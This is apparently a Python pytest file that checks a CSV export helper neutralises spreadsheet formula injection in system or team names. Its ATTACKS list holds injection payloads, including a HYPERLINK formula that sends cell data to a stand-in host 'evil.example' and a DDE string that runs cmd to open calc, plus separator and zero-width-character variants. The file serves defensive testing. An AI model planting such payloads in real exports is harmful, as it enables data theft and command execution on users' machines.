"""The one CSV rule: every cell quoted, no text cell read as a formula by a spreadsheet (evaluation.csv_cells)."""

from __future__ import annotations

import csv
import io

import pytest

from evaluation.csv_cells import csv_rows, csv_text

#: Cells an attacker puts in a system or team name; each must come out with no formula a spreadsheet would run,
#: whichever separator it splits the line on.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'x;=HYPERLINK("http://evil.example","x")',  # a `;`-separated locale splits here
    "x,=1+1",
    "x\t=1+1",
    "x|=1+1",
    "x\n=1+1",
    "  =1+1",  # spaces a spreadsheet drops
    "\u200b=1+1",  # zero-width space
    "x; \u200b@SUM(A1)",
    "\ufeff-1",
]


def _pieces(text: str) -> list[str]:
    """Every cell a spreadsheet could make of ``text`` by splitting it on any separator, without the invisibles."""
    pieces = [text]
    for sep in ";,\t|\r\n":
        pieces = [p for piece in pieces for p in piece.split(sep)]
    return [p.lstrip(" \u00a0\u200b\u200c\u200d\u2060\ufeff") for p in pieces]


@pytest.mark.parametrize("cell", ATTACKS)
def test_it_leaves_no_piece_of_an_attack_cell_starting_like_a_formula(cell):
    for piece in _pieces(csv_text(cell)):
        assert not piece.startswith(tuple("=+-@")), (cell, piece)
    # In the original, some piece did (the test would pass on a function that changes nothing otherwise).
    assert any(p.startswith(tuple("=+-@")) for p in _pieces(cell)) or cell[0] in "\t\r"


def test_it_leaves_ordinary_text_alone():
    for text in ["BM25 (k1=0.9)", "dense-retriever", "", "Jean-Luc's team", "a = b", "R@100", "3.5"]:
        assert csv_text(text) == text


def test_it_quotes_every_cell_and_keeps_numbers_as_they_are():
    text = csv_rows([["system", "R@10"], ["x;=HYPERLINK(1)", 0.5], [None, 3]])
    assert text.splitlines() == ['"system","R@10"', '"x;\'=HYPERLINK(1)","0.5"', '"","3"']
    assert list(csv.reader(io.StringIO(text)))[1] == ["x;'=HYPERLINK(1)", "0.5"]
